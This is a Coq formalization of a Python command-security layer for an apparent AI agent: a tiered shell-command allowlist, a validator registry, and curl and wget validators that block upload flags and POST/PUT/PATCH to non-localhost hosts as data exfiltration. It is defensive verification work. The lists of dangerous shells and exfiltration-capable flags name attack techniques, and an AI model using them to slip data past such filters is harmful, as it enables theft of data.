(** * Command classifier, validator registry and network validators

    Shallow embedding of
    - [apps/backend/project/command_registry/base.py]
      (mode resolver, command tiers, validated-command map),
    - [apps/backend/security/validator_registry.py] (validator dispatch),
    - [apps/backend/security/network_validators.py] (curl and wget validators),
    - [apps/backend/runners/gitlab/glab_client.py] (project path encoding
      and API URL),
    together with the standard-library routines they call, [shlex.split],
    [urllib.parse.urlparse(..).hostname] and [urllib.parse.quote].

    Conventions.
    - A Python [str] is a [string]; a code point outside ASCII stands for its
      UTF-8 bytes.  Every delimiter the code searches for is ASCII, so
      scanning, splitting and prefix tests are unaffected by that encoding.
    - What depends on the Unicode database or on the [ipaddress] module
      (case mapping, NFKC normalisation, validity of a bracketed host) is a
      field of the class [PyText]; theorems hold for every instance.
    - The command tiers are [gset]s and the validator tables [gmap]s.  The
      small constant sets of the network validators, which the code walks
      with [for flag in ...] or tests for membership, are lists in the order
      of the source; [upload_flag_order_immaterial] and
      [takes_next_order_immaterial] show that the order in which such a set
      is walked does not show in the result.
    - An exception is an explicit [None]: [Shlex.split] and [urlsplit_netloc]
      return [option]. *)

From Stdlib Require Import Ascii String.
From stdpp Require Import gmap strings list fin_maps.

Open Scope string_scope.

(** ** Python string primitives *)

Module PyStr.

(** [c in s] for a one-character [c]. *)
Fixpoint contains (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String d s' => if Ascii.eqb c d then true else contains c s'
  end.

(** [s.startswith(p)]. *)
Definition startswith (p s : string) : bool := String.prefix p s.

(** [s.partition(c)]: text before the first [c], whether [c] was found,
    text after it.  Without a separator the whole string comes first. *)
Fixpoint partition (c : ascii) (s : string) : string * bool * string :=
  match s with
  | EmptyString => (EmptyString, false, EmptyString)
  | String d s' =>
      if Ascii.eqb c d then (EmptyString, true, s')
      else let '(before, found, after) := partition c s' in
           (String d before, found, after)
  end.

(** [s.rpartition(c)]: split at the last [c]; without a separator the
    whole string comes last. *)
Fixpoint rpartition (c : ascii) (s : string) : string * bool * string :=
  match s with
  | EmptyString => (EmptyString, false, EmptyString)
  | String d s' =>
      let '(before, found, after) := rpartition c s' in
      if found then (String d before, true, after)
      else if Ascii.eqb c d then (EmptyString, true, s')
      else (EmptyString, false, String d after)
  end.

(** [s.lstrip(chars)], the character class given as a predicate. *)
Fixpoint lstrip (p : ascii → bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String d s' => if p d then lstrip p s' else s
  end.

(** Every occurrence of a character of the class removed
    ([s.replace(b, "")] for each [b] of the class). *)
Fixpoint remove (p : ascii → bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String d s' => if p d then remove p s' else String d (remove p s')
  end.

Fixpoint forallb (p : ascii → bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String d s' => p d && forallb p s'
  end.

(** [s.isascii()]. *)
Definition isascii : string → bool :=
  forallb (λ c, Nat.ltb (nat_of_ascii c) 128).

Definition is_upper (c : ascii) : bool :=
  Nat.leb 65 (nat_of_ascii c) && Nat.leb (nat_of_ascii c) 90.
Definition is_lower (c : ascii) : bool :=
  Nat.leb 97 (nat_of_ascii c) && Nat.leb (nat_of_ascii c) 122.
Definition is_digit (c : ascii) : bool :=
  Nat.leb 48 (nat_of_ascii c) && Nat.leb (nat_of_ascii c) 57.
Definition is_alpha (c : ascii) : bool := is_upper c || is_lower c.

Fixpoint map (f : ascii → ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String d s' => String (f d) (map f s')
  end.

(** Case mapping restricted to the letters A-Z and a-z. *)
Definition ascii_upper : string → string :=
  map (λ c, if is_lower c then ascii_of_nat (nat_of_ascii c - 32) else c).
Definition ascii_lower : string → string :=
  map (λ c, if is_upper c then ascii_of_nat (nat_of_ascii c + 32) else c).

(** Python truthiness of a string. *)
Definition nonempty (s : string) : bool :=
  match s with EmptyString => false | String _ _ => true end.

End PyStr.

(** ** The part of Python's text model that is not ASCII arithmetic

    [str.upper] and [str.lower] follow the Unicode database and agree with
    the ASCII maps on ASCII text.  [nfkc_netloc_ok] answers whether
    [urllib.parse._checknetloc] accepts a network location that is not pure
    ASCII, [bracketed_host_ok] whether [_check_bracketed_host] accepts the
    text between square brackets. *)

Class PyText := {
  str_upper : string → string;
  str_lower : string → string;
  nfkc_netloc_ok : string → bool;
  bracketed_host_ok : string → bool;
  str_upper_ascii : ∀ s, PyStr.isascii s = true → str_upper s = PyStr.ascii_upper s;
  str_lower_ascii : ∀ s, PyStr.isascii s = true → str_lower s = PyStr.ascii_lower s;
}.

(** ** [shlex.split(s)]: POSIX mode, [whitespace_split], no comment characters *)

Module Shlex.

Definition TAB : ascii := "009"%char.
Definition LF : ascii := "010"%char.
Definition CR : ascii := "013"%char.
Definition DQUOTE : ascii := "034"%char.
Definition SQUOTE : ascii := "'"%char.
Definition BACKSLASH : ascii := "\"%char.

(** The character classes of the lexer: [whitespace] is space, tab,
    carriage return and line feed; [quotes] the single and the double
    quote; [escape] the backslash; [escapedquotes] the double quote. *)
Definition whitespace (c : ascii) : bool :=
  Ascii.eqb c " " || Ascii.eqb c TAB || Ascii.eqb c CR || Ascii.eqb c LF.
Definition quotes (c : ascii) : bool := Ascii.eqb c SQUOTE || Ascii.eqb c DQUOTE.
Definition escape (c : ascii) : bool := Ascii.eqb c BACKSLASH.
Definition escapedquotes (c : ascii) : bool := Ascii.eqb c DQUOTE.

(** The word being built leaves [read_token]: a word that is empty and was
    never quoted is the end-of-input marker and stops the iteration,
    any other word is followed by the words of the rest of the input. *)
Definition emit (token : string) (quoted : bool)
    (rest : option (list string)) : option (list string) :=
  if negb quoted && negb (PyStr.nonempty token) then Some []
  else cons token <$> rest.

(** [read_token] iterated by [list(lex)], one character per step.
    [state] is the lexer state as the library stores it: [" "] between
    words, ["a"] inside a word, a quote character inside quotes, the
    backslash after an escape.  [None] is [ValueError]. *)
Fixpoint read_tokens (instream : string) (state : ascii) (quoted : bool)
    (escapedstate : ascii) (token : string) : option (list string) :=
  match instream with
  | EmptyString =>
      if Ascii.eqb state " " then emit token quoted (Some [])
      else if quotes state then None            (* No closing quotation *)
      else if escape state then None            (* No escaped character *)
      else emit token quoted (Some [])
  | String nextchar rest =>
      if Ascii.eqb state " " then
        if whitespace nextchar then
          if PyStr.nonempty token || quoted
          then emit token quoted (read_tokens rest " " false " " "")
          else read_tokens rest state quoted escapedstate token
        else if escape nextchar then
          read_tokens rest nextchar quoted "a" token
        else if quotes nextchar then
          read_tokens rest nextchar quoted escapedstate token
        else
          (* a word character, or any other one under whitespace_split *)
          read_tokens rest "a" quoted escapedstate (String nextchar "")
      else if quotes state then
        if Ascii.eqb nextchar state then
          read_tokens rest "a" true escapedstate token
        else if escape nextchar && escapedquotes state then
          read_tokens rest nextchar true state token
        else
          read_tokens rest state true escapedstate (token +:+ String nextchar "")
      else if escape state then
        let token :=
          if quotes escapedstate && negb (Ascii.eqb nextchar state)
             && negb (Ascii.eqb nextchar escapedstate)
          then token +:+ String state ""
          else token in
        read_tokens rest escapedstate quoted escapedstate
                    (token +:+ String nextchar "")
      else
        if whitespace nextchar then
          if PyStr.nonempty token || quoted
          then emit token quoted (read_tokens rest " " false " " "")
          else read_tokens rest " " quoted escapedstate token
        else if quotes nextchar then
          read_tokens rest nextchar quoted escapedstate token
        else if escape nextchar then
          read_tokens rest nextchar quoted "a" token
        else
          read_tokens rest state quoted escapedstate (token +:+ String nextchar "")
  end.

Definition split (s : string) : option (list string) :=
  read_tokens s " " false " " "".

End Shlex.

(** ** [urllib.parse.urlparse(url).hostname] *)

Module UrlParse.
Section WithText.
Context `{PyText}.

(** [_WHATWG_C0_CONTROL_OR_SPACE]: the code points 0 to 32. *)
Definition c0_control_or_space (c : ascii) : bool := Nat.leb (nat_of_ascii c) 32.

(** [_UNSAFE_URL_BYTES_TO_REMOVE = ['\t', '\r', '\n']]. *)
Definition unsafe_url_byte (c : ascii) : bool :=
  Ascii.eqb c Shlex.TAB || Ascii.eqb c Shlex.CR || Ascii.eqb c Shlex.LF.

(** [scheme_chars]: ASCII letters, digits and [+-.]. *)
Definition scheme_char (c : ascii) : bool :=
  PyStr.is_alpha c || PyStr.is_digit c || PyStr.contains c "+-.".

(** The scheme test of [urlsplit]: with [i = url.find(':')], when [i > 0],
    [url[0]] is an ASCII letter and [url[:i]] has scheme characters only,
    the URL continues at [url[i+1:]]. *)
Definition strip_scheme (url : string) : string :=
  let '(before, found, after) := PyStr.partition ":" url in
  match before with
  | String c0 _ =>
      if found && Nat.ltb (nat_of_ascii c0) 128 && PyStr.is_alpha c0
         && PyStr.forallb scheme_char before
      then after else url
  | EmptyString => url
  end.

(** [_splitnetloc(url, 2)[0]] on the text after the two slashes: up to
    the first of [/], [?], [#]. *)
Fixpoint splitnetloc (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if PyStr.contains c "/?#" then EmptyString
                   else String c (splitnetloc s')
  end.

(** [_checknetloc]: only a location that is not pure ASCII is examined. *)
Definition _checknetloc (netloc : string) : bool :=
  if negb (PyStr.nonempty netloc) || PyStr.isascii netloc then true
  else nfkc_netloc_ok netloc.

(** [_check_bracketed_netloc], mirroring the split of [_hostinfo]. *)
Definition _check_bracketed_netloc (netloc : string) : bool :=
  let '(_, _, hostname_and_port) := PyStr.rpartition "@" netloc in
  let '(before_bracket, have_open_br, bracketed) :=
    PyStr.partition "[" hostname_and_port in
  if have_open_br then
    if PyStr.nonempty before_bracket then false
    else
      let '(hostname, _, port) := PyStr.partition "]" bracketed in
      if PyStr.nonempty port && negb (PyStr.startswith ":" port) then false
      else bracketed_host_ok hostname
  else
    let '(hostname, _, _) := PyStr.partition ":" hostname_and_port in
    bracketed_host_ok hostname.

(** The [netloc] field of [urlsplit(url)]; [None] is [ValueError]. *)
Definition urlsplit_netloc (url : string) : option string :=
  let url := PyStr.lstrip c0_control_or_space url in
  let url := PyStr.remove unsafe_url_byte url in
  let url := strip_scheme url in
  match url with
  | String "/" (String "/" rest) =>
      let netloc := splitnetloc rest in
      let open_br := PyStr.contains "[" netloc in
      let close_br := PyStr.contains "]" netloc in
      if (open_br && negb close_br) || (close_br && negb open_br) then None
      else if open_br && close_br && negb (_check_bracketed_netloc netloc)
      then None
      else if _checknetloc netloc then Some netloc else None
  | _ => Some ""
  end.

(** [_hostinfo[0]]. *)
Definition _hostinfo (netloc : string) : string :=
  let '(_, _, hostinfo) := PyStr.rpartition "@" netloc in
  let '(_, have_open_br, bracketed) := PyStr.partition "[" hostinfo in
  if have_open_br then
    let '(hostname, _, _) := PyStr.partition "]" bracketed in hostname
  else
    let '(hostname, _, _) := PyStr.partition ":" hostinfo in hostname.

(** The [hostname] property: lower case, a zone after [%] kept as it is;
    [None] when the host part is empty. *)
Definition hostname (netloc : string) : option string :=
  let h := _hostinfo netloc in
  if PyStr.nonempty h then
    let '(host, percent, zone) := PyStr.partition "%" h in
    Some (str_lower host +:+ (if percent then "%" else "") +:+ zone)
  else None.

(** [urlparse(url).hostname]; the outer [None] is [ValueError]. *)
Definition urlparse_hostname (url : string) : option (option string) :=
  hostname <$> urlsplit_netloc url.

End WithText.
End UrlParse.

(** ** [security/network_validators.py] *)

(** [ValidationResult]: the pair [(is_valid, error_message)]. *)
Definition ValidationResult : Type := bool * string.

Definition ALLOWED_HOSTS : list string :=
  [ "localhost"; "127.0.0.1"; "::1"; "0.0.0.0" ].

Definition CURL_UPLOAD_FLAGS : list string :=
  [ "-d"; "--data";
     "--data-raw"; "--data-binary"; "--data-urlencode"; "--data-ascii";
     "-F"; "--form";
     "-T"; "--upload-file";
     "--json" ].

Definition WGET_UPLOAD_FLAGS : list string :=
  [ "--post-data"; "--post-file";
     "--body-data"; "--body-file";
     "--method" ].

(** The set literal [{"POST", "PUT", "PATCH"}] of both validators. *)
Definition UPLOAD_METHODS : list string := [ "POST"; "PUT"; "PATCH" ].

(** [token.startswith(("http://", "https://", "ftp://"))]. *)
Definition has_url_scheme (token : string) : bool :=
  PyStr.startswith "http://" token || PyStr.startswith "https://" token
  || PyStr.startswith "ftp://" token.

(** [token == flag or token.startswith(f"{flag}=")]. *)
Definition flag_matches (token flag : string) : bool :=
  String.eqb token flag || PyStr.startswith (flag +:+ "=") token.

(** The three variables the scanning loops track. *)
Record scan := {
  has_upload_data : bool;
  explicit_method : option string;
  upload_flag_found : option string;
}.

Definition scan_init : scan :=
  {| has_upload_data := false; explicit_method := None; upload_flag_found := None |}.

Definition set_method (m : string) (st : scan) : scan :=
  {| has_upload_data := has_upload_data st;
     explicit_method := Some m;
     upload_flag_found := upload_flag_found st |}.

(** [for flag in FLAGS: if token == flag: ...; break
                        elif token.startswith(f"{flag}="): ...; break] *)
Definition check_upload (flags : list string) (token : string) (st : scan) : scan :=
  match List.find (flag_matches token) flags with
  | Some flag =>
      {| has_upload_data := true;
         explicit_method := explicit_method st;
         upload_flag_found := Some flag |}
  | None => st
  end.

(** An f-string prints [None] as the word None. *)
Definition fmt (o : option string) : string := default "None" o.

Section Validators.
Context `{PyText}.

(** The flag loop of [_extract_url_from_tokens]: the first flag the token
    equals or extends with [=] decides, and asks to skip the next token
    when the token carries no [=]. *)
Definition takes_next (skip_flags : list string) (token : string) : bool :=
  match List.find (flag_matches token) skip_flags with
  | Some _ => negb (PyStr.contains "=" token)
  | None => false
  end.

Fixpoint extract_url (skip_flags : list string) (skip_next : bool)
    (tokens : list string) : option string :=
  match tokens with
  | [] => None
  | token :: rest =>
      if skip_next then extract_url skip_flags false rest
      else if PyStr.startswith "-" token then
        extract_url skip_flags (takes_next skip_flags token) rest
      else if has_url_scheme token then Some token
      else if PyStr.contains "." token || bool_decide (token ∈ ALLOWED_HOSTS)
      then Some ("http://" +:+ token)
      else extract_url skip_flags false rest
  end.

(** [for token in tokens[1:]] with [skip_next = False] at the start. *)
Definition _extract_url_from_tokens (tokens : list string)
    (skip_flags : list string) : option string :=
  extract_url skip_flags false (tail tokens).

(** [hostname = parsed.hostname or ""], any exception gives [False]. *)
Definition _is_localhost (url : string) : bool :=
  match UrlParse.urlparse_hostname url with
  | Some h => bool_decide (str_lower (default "" h) ∈ ALLOWED_HOSTS)
  | None => false
  end.

(** [url and _is_localhost(url)]. *)
Definition url_is_local (url : option string) : bool :=
  match url with
  | Some u => PyStr.nonempty u && _is_localhost u
  | None => false
  end.

(** [has_upload_data or (explicit_method in {"POST", "PUT", "PATCH"})]. *)
Definition is_upload (st : scan) : bool :=
  has_upload_data st
  || match explicit_method st with
     | Some m => bool_decide (m ∈ UPLOAD_METHODS)
     | None => false
     end.

Definition BLOCKED_TAIL : string :=
  " blocked in strict mode (potential data exfiltration). "
  +:+ "Only GET requests allowed to external hosts. "
  +:+ "Localhost requests are unrestricted.".

(** The tail shared by both validators once the loops are done;
    [with_flag] and [with_method] are the openings of the two messages. *)
Definition decide_upload (with_flag with_method : string) (url : option string)
    (st : scan) : ValidationResult :=
  if url_is_local url then (true, "")
  else if is_upload st then
    match upload_flag_found st with
    | Some flag =>
        if PyStr.nonempty flag
        then (false, with_flag +:+ flag +:+ "'" +:+ BLOCKED_TAIL)
        else (false, with_method +:+ fmt (explicit_method st) +:+ BLOCKED_TAIL)
    | None => (false, with_method +:+ fmt (explicit_method st) +:+ BLOCKED_TAIL)
    end
  else (true, "").

(** *** curl *)

Definition curl_skip_flags : list string :=
  [ "-o"; "--output"; "-O";
     "-H"; "--header";
     "-A"; "--user-agent";
     "-e"; "--referer";
     "-u"; "--user";
     "-x"; "--proxy";
     "-b"; "--cookie";
     "-c"; "--cookie-jar";
     "--connect-timeout"; "--max-time";
     "-w"; "--write-out";
     "--retry"; "--retry-delay" ] ++ CURL_UPLOAD_FLAGS.

(** One turn of [while i < len(tokens)] at [token = tokens[i]]: the state
    and the index of the next turn. *)
Definition curl_body (tokens : list string) (i : nat) (token : string)
    (st : scan) : nat * scan :=
  let st := check_upload CURL_UPLOAD_FLAGS token st in
  let '(i, st) :=
    if bool_decide (token ∈ ["-X"; "--request"]) then
      match tokens !! (i + 1) with
      | Some m => (i + 1, set_method (str_upper m) st)
      | None => (i, st)
      end
    else (i, st) in
  let i :=
    if PyStr.startswith "-" token && bool_decide (token ∈ curl_skip_flags)
    then i + 1 else i in
  (i + 1, st).

Fixpoint curl_scan (fuel : nat) (tokens : list string) (i : nat) (st : scan) : scan :=
  match fuel with
  | 0 => st
  | S fuel' =>
      match tokens !! i with
      | None => st
      | Some token =>
          let '(i', st') := curl_body tokens i token st in
          curl_scan fuel' tokens i' st'
      end
  end.

Definition validate_curl_command (command_string : string) : ValidationResult :=
  match Shlex.split command_string with
  | None => (false, "Could not parse curl command")
  | Some tokens =>
      if bool_decide (head tokens = Some "curl") then
        let st := curl_scan (length tokens) tokens 1 scan_init in
        let url := _extract_url_from_tokens tokens curl_skip_flags in
        decide_upload "curl with '" "curl " url st
      else (false, "Not a curl command")
  end.

(** *** wget *)

Definition wget_skip_flags : list string :=
  [ "-O"; "--output-document";
     "-o"; "--output-file";
     "-a"; "--append-output";
     "--header";
     "--user-agent"; "-U";
     "--referer";
     "--user"; "--password";
     "--proxy-user"; "--proxy-password";
     "-e"; "--execute";
     "-t"; "--tries";
     "-T"; "--timeout";
     "-w"; "--wait";
     "--limit-rate";
     "-P"; "--directory-prefix" ] ++ WGET_UPLOAD_FLAGS.

(** [token.split("=", 1)[1]] for a token that contains [=]. *)
Definition after_equals (token : string) : string :=
  let '(_, _, value) := PyStr.partition "=" token in value.

Definition wget_body (tokens : list string) (i : nat) (token : string)
    (st : scan) : nat * scan :=
  let st := check_upload WGET_UPLOAD_FLAGS token st in
  let '(i, st) :=
    if String.eqb token "--method" then
      match tokens !! (i + 1) with
      | Some m => (i + 1, set_method (str_upper m) st)
      | None => (i, st)
      end
    else if PyStr.startswith "--method=" token then
      (i, set_method (str_upper (after_equals token)) st)
    else (i, st) in
  let i :=
    if PyStr.startswith "-" token && bool_decide (token ∈ wget_skip_flags)
    then i + 1 else i in
  (i + 1, st).

Fixpoint wget_scan (fuel : nat) (tokens : list string) (i : nat) (st : scan) : scan :=
  match fuel with
  | 0 => st
  | S fuel' =>
      match tokens !! i with
      | None => st
      | Some token =>
          let '(i', st') := wget_body tokens i token st in
          wget_scan fuel' tokens i' st'
      end
  end.

(** [for token in reversed(tokens[1:])]: the first token from the end
    that does not start with a dash and starts with a URL scheme. *)
Definition wget_url (tokens : list string) : option string :=
  List.find (λ token, negb (PyStr.startswith "-" token) && has_url_scheme token)
            (reverse (tail tokens)).

Definition validate_wget_command (command_string : string) : ValidationResult :=
  match Shlex.split command_string with
  | None => (false, "Could not parse wget command")
  | Some tokens =>
      if bool_decide (head tokens = Some "wget") then
        let st := wget_scan (length tokens) tokens 1 scan_init in
        let url := wget_url tokens in
        decide_upload "wget with '" "wget --method=" url st
      else (false, "Not a wget command")
  end.

End Validators.

(** ** [project/command_registry/base.py] *)

Module Base.
Section Mode.
Context `{PyText}.

(** [os.environ]; the process environment is an argument of everything
    that reads the mode, so every call reads it anew. *)
Definition environment : Type := gmap string string.

Definition SECURITY_STRICT_MODE : string := "SECURITY_STRICT_MODE".

(** [os.environ.get("SECURITY_STRICT_MODE", "").lower()
      in ("true", "1", "yes")] *)
Definition is_strict_mode (environ : gmap string string) : bool :=
  bool_decide
    (str_lower (default "" (environ !! SECURITY_STRICT_MODE))
     ∈ ["true"; "1"; "yes"]).

Definition SAFE_COMMANDS : gset string :=
  list_to_set [
    (* Core shell (read/navigate) *)
    "echo"; "printf"; "cat"; "head"; "tail"; "less"; "more"; "ls"; "pwd";
    "cd"; "pushd"; "popd"; "cp"; "mv"; "mkdir"; "rmdir"; "touch"; "ln";
    "find"; "fd"; "grep"; "egrep"; "fgrep"; "rg"; "ag"; "sort"; "uniq";
    "cut"; "tr"; "sed"; "awk"; "gawk"; "wc"; "diff"; "cmp"; "comm"; "tee";
    "xargs"; "read"; "file"; "stat"; "tree"; "du"; "df"; "which";
    "whereis"; "type"; "command"; "date"; "time"; "sleep"; "timeout";
    "watch"; "true"; "false"; "test"; "["; "[["; "env"; "printenv";
    "export"; "unset"; "set"; "source"; "."; "exit"; "return"; "break";
    "continue";
    (* Archives *)
    "tar"; "zip"; "unzip"; "gzip"; "gunzip";
    (* Network (read-only, safe for fetching) *)
    "ping"; "host"; "dig";
    (* Git (always needed) *)
    "git"; "gh";
    (* Process management (with validation in security.py) *)
    "ps"; "pgrep"; "lsof"; "jobs"; "kill"; "pkill"; "killall";
    (* File operations (with validation in security.py) *)
    "rm"; "chmod";
    (* Text tools *)
    "paste"; "join"; "split"; "fold"; "fmt"; "nl"; "rev"; "shuf";
    "column"; "expand"; "unexpand"; "iconv";
    (* Misc safe *)
    "clear"; "reset"; "man"; "help"; "uname"; "whoami"; "id"; "basename";
    "dirname"; "realpath"; "readlink"; "mktemp"; "bc"; "expr"; "let";
    "seq"; "yes"; "jq"; "yq"
  ].

Definition DANGEROUS_COMMANDS : gset string :=
  {[ "eval"; "exec"; "sh"; "bash"; "zsh" ]}.

Definition NETWORK_COMMANDS : gset string := {[ "curl"; "wget" ]}.

Definition get_base_commands (environ : gmap string string) : gset string :=
  if is_strict_mode environ
  then SAFE_COMMANDS ∪ NETWORK_COMMANDS
  else SAFE_COMMANDS ∪ DANGEROUS_COMMANDS ∪ NETWORK_COMMANDS.

Definition BASE_COMMANDS : gset string :=
  SAFE_COMMANDS ∪ DANGEROUS_COMMANDS ∪ NETWORK_COMMANDS.

(** The dict literals name each key once, so the order of insertion is
    immaterial. *)
Definition _BASE_VALIDATORS : gmap string string :=
  list_to_map [
    ("rm", "validate_rm");
    ("chmod", "validate_chmod");
    ("pkill", "validate_pkill");
    ("kill", "validate_kill");
    ("killall", "validate_killall")
  ].

Definition _STRICT_VALIDATORS : gmap string string :=
  list_to_map [
    ("curl", "validate_curl");
    ("wget", "validate_wget")
  ].

(** [{**_BASE_VALIDATORS, **_STRICT_VALIDATORS}]: on a shared key the
    right operand of the literal wins, which is the left operand of [∪]. *)
Definition get_validated_commands (environ : gmap string string)
    : gmap string string :=
  if is_strict_mode environ
  then _STRICT_VALIDATORS ∪ _BASE_VALIDATORS
  else _BASE_VALIDATORS.

Definition VALIDATED_COMMANDS : gmap string string := _BASE_VALIDATORS.

End Mode.
End Base.

(** ** [security/validator_registry.py] *)

Module ValidatorRegistry.

(** The validators imported from [database_validators],
  [filesystem_validators], [git_validators] and [process_validators]:
  functions of the same signature, defined outside this development. *)
Class Collaborators := {
validate_dropdb_command : string → ValidationResult;
validate_dropuser_command : string → ValidationResult;
validate_mongosh_command : string → ValidationResult;
validate_mysql_command : string → ValidationResult;
validate_mysqladmin_command : string → ValidationResult;
validate_psql_command : string → ValidationResult;
validate_redis_cli_command : string → ValidationResult;
validate_chmod_command : string → ValidationResult;
validate_init_script : string → ValidationResult;
validate_rm_command : string → ValidationResult;
validate_git_commit : string → ValidationResult;
validate_kill_command : string → ValidationResult;
validate_killall_command : string → ValidationResult;
validate_pkill_command : string → ValidationResult;
}.

Section Registry.
Context `{PyText} `{Collaborators}.

Definition _BASE_VALIDATORS : gmap string (string → ValidationResult) :=
  list_to_map [
    (* Process management *)
    ("pkill", validate_pkill_command);
    ("kill", validate_kill_command);
    ("killall", validate_killall_command);
    (* File system *)
    ("chmod", validate_chmod_command);
    ("rm", validate_rm_command);
    ("init.sh", validate_init_script);
    (* Git *)
    ("git", validate_git_commit);
    (* Database - PostgreSQL *)
    ("dropdb", validate_dropdb_command);
    ("dropuser", validate_dropuser_command);
    ("psql", validate_psql_command);
    (* Database - MySQL/MariaDB *)
    ("mysql", validate_mysql_command);
    ("mariadb", validate_mysql_command);
    ("mysqladmin", validate_mysqladmin_command);
    (* Database - Redis *)
    ("redis-cli", validate_redis_cli_command);
    (* Database - MongoDB *)
    ("mongosh", validate_mongosh_command);
    ("mongo", validate_mongosh_command)
  ].

Definition _STRICT_VALIDATORS : gmap string (string → ValidationResult) :=
  list_to_map [
    ("curl", validate_curl_command);
    ("wget", validate_wget_command)
  ].

Definition VALIDATORS : gmap string (string → ValidationResult) :=
  _BASE_VALIDATORS.

Definition get_validators (environ : gmap string string)
    : gmap string (string → ValidationResult) :=
  if Base.is_strict_mode environ
  then _STRICT_VALIDATORS ∪ _BASE_VALIDATORS
  else _BASE_VALIDATORS.

Definition get_validator (environ : gmap string string)
    (command_name : string) : option (string → ValidationResult) :=
  get_validators environ !! command_name.

End Registry.
End ValidatorRegistry.

(** Python on ASCII text without a bracketed host: the ASCII case maps, and
    every location accepted by the two checks, neither of which such text
    reaches. *)
#[export] Instance ascii_text : PyText := {|
  str_upper := PyStr.ascii_upper;
  str_lower := PyStr.ascii_lower;
  nfkc_netloc_ok := λ _, true;
  bracketed_host_ok := λ _, true;
  str_upper_ascii := λ _ _, eq_refl;
  str_lower_ascii := λ _ _, eq_refl;
|}.

(** Collaborators that accept every command: an inhabitant of the class,
    for statements evaluated on a concrete registry. *)
#[export] Instance accepting_collaborators : ValidatorRegistry.Collaborators := {|
  ValidatorRegistry.validate_dropdb_command := λ _, (true, "");
  ValidatorRegistry.validate_dropuser_command := λ _, (true, "");
  ValidatorRegistry.validate_mongosh_command := λ _, (true, "");
  ValidatorRegistry.validate_mysql_command := λ _, (true, "");
  ValidatorRegistry.validate_mysqladmin_command := λ _, (true, "");
  ValidatorRegistry.validate_psql_command := λ _, (true, "");
  ValidatorRegistry.validate_redis_cli_command := λ _, (true, "");
  ValidatorRegistry.validate_chmod_command := λ _, (true, "");
  ValidatorRegistry.validate_init_script := λ _, (true, "");
  ValidatorRegistry.validate_rm_command := λ _, (true, "");
  ValidatorRegistry.validate_git_commit := λ _, (true, "");
  ValidatorRegistry.validate_kill_command := λ _, (true, "");
  ValidatorRegistry.validate_killall_command := λ _, (true, "");
  ValidatorRegistry.validate_pkill_command := λ _, (true, "");
|}.

(** ** Vocabulary for stating what the loops do *)

(** [while i < len(tokens)] as a relation between the state at the loop
    head and the state at loop exit. *)
Inductive while_loop (body : list string → nat → string → scan → nat * scan)
    (tokens : list string) : nat → scan → scan → Prop :=
| while_exit i st :
    tokens !! i = None → while_loop body tokens i st st
| while_turn i token st i' st' final :
    tokens !! i = Some token →
    body tokens i token st = (i', st') →
    while_loop body tokens i' st' final →
    while_loop body tokens i st final.

(** The upload flag the curl loop records at a token, if any. *)
Definition curl_upload_flag (token : string) : option string :=
  List.find (flag_matches token) CURL_UPLOAD_FLAGS.

(** The token the curl loop takes as the method at position [i], if any. *)
Definition curl_method_arg (tokens : list string) (i : nat) (token : string)
    : option string :=
  if bool_decide (token ∈ ["-X"; "--request"]) then tokens !! (i + 1) else None.

(** The position the curl loop reads after position [i]: one further for
    a method option that has a successor, one further for a flag that
    takes an argument. *)
Definition curl_next (tokens : list string) (i : nat) (token : string) : nat :=
  i + (match curl_method_arg tokens i token with Some _ => 1 | None => 0 end)
    + (if bool_decide (token ∈ curl_skip_flags) then 1 else 0) + 1.

(** The positions the curl loop reads when it starts at position [i]. *)
Inductive curl_reads_from (tokens : list string) (i : nat) : nat → Prop :=
| reads_start : curl_reads_from tokens i i
| reads_on j token :
    curl_reads_from tokens i j →
    tokens !! j = Some token →
    curl_reads_from tokens i (curl_next tokens j token).

(** The same positions, inside the list, as a list. *)
Fixpoint read_positions (fuel : nat) (tokens : list string) (i : nat) : list nat :=
  match fuel with
  | 0 => []
  | S fuel' =>
      match tokens !! i with
      | None => []
      | Some token => i :: read_positions fuel' tokens (curl_next tokens i token)
      end
  end.

(** No token read from position [i] on is an upload flag. *)
Definition no_upload_from (tokens : list string) (i : nat) : Prop :=
  ∀ k token, curl_reads_from tokens i k → tokens !! k = Some token →
             curl_upload_flag token = None.

(** No token read from position [i] on is a method option with a successor. *)
Definition no_method_from (tokens : list string) (i : nat) : Prop :=
  ∀ k token, curl_reads_from tokens i k → tokens !! k = Some token →
             curl_method_arg tokens k token = None.

(** The flags of the code's list that take an argument in curl: all of
    them but [-O] (remote name), which takes none. *)
Definition curl_argument_flags : list string :=
  List.filter (λ flag, negb (String.eqb flag "-O")) curl_skip_flags.


(** Following the words of the specification (4.4, step 5): a token is
    URL-like when it starts with one of the three schemes, or is a bare
    token with a dot in it or equal to a loopback alias. *)
Definition url_like (token : string) : bool :=
  has_url_scheme token || PyStr.contains "." token
  || bool_decide (token ∈ ALLOWED_HOSTS).

(** Following the words of the specification (4.4, steps 3 and 5): the
    arguments outside the flags.  A token that starts with a dash is an
    option and is dropped, together with the token after it when the option
    is one of [flags]. *)
Fixpoint outside_flags (flags : list string) (args : list string)
    : list string :=
  match args with
  | [] => []
  | token :: rest =>
      if PyStr.startswith "-" token then
        if bool_decide (token ∈ flags)
        then match rest with
             | [] => []
             | _ :: rest' => outside_flags flags rest'
             end
        else outside_flags flags rest
      else token :: outside_flags flags rest
  end.

(** Following the words of the specification (4.4, step 5): a bare token
    is taken with the scheme http. *)
Definition with_scheme (token : string) : string :=
  if has_url_scheme token then token else "http://" +:+ token.

(** [flags] holds no flag that, followed by [=], begins another flag or
    another flag followed by [=]. *)
Definition prefix_free (flags : list string) : bool :=
  List.forallb (λ f1,
    List.forallb (λ f2,
      implb (String.prefix (f1 +:+ "=") (f2 +:+ "=")) (String.eqb f1 f2)
      && negb (String.prefix (f1 +:+ "=") f2)) flags) flags.

(** The double quote as a one-character string, for writing commands. *)
Definition DQ : string := String Shlex.DQUOTE "".

Definition curl_post_localhost : string :=
  "curl -X POST http://localhost:8000 -d " +:+ DQ +:+ "x=1" +:+ DQ.

(** The upload flag the wget loop records at a token, if any. *)
Definition wget_upload_flag (token : string) : option string :=
  List.find (flag_matches token) WGET_UPLOAD_FLAGS.

(** The position the wget loop reads after position [i]: one further for
    [--method] with a successor, one further for a flag that takes an
    argument. *)
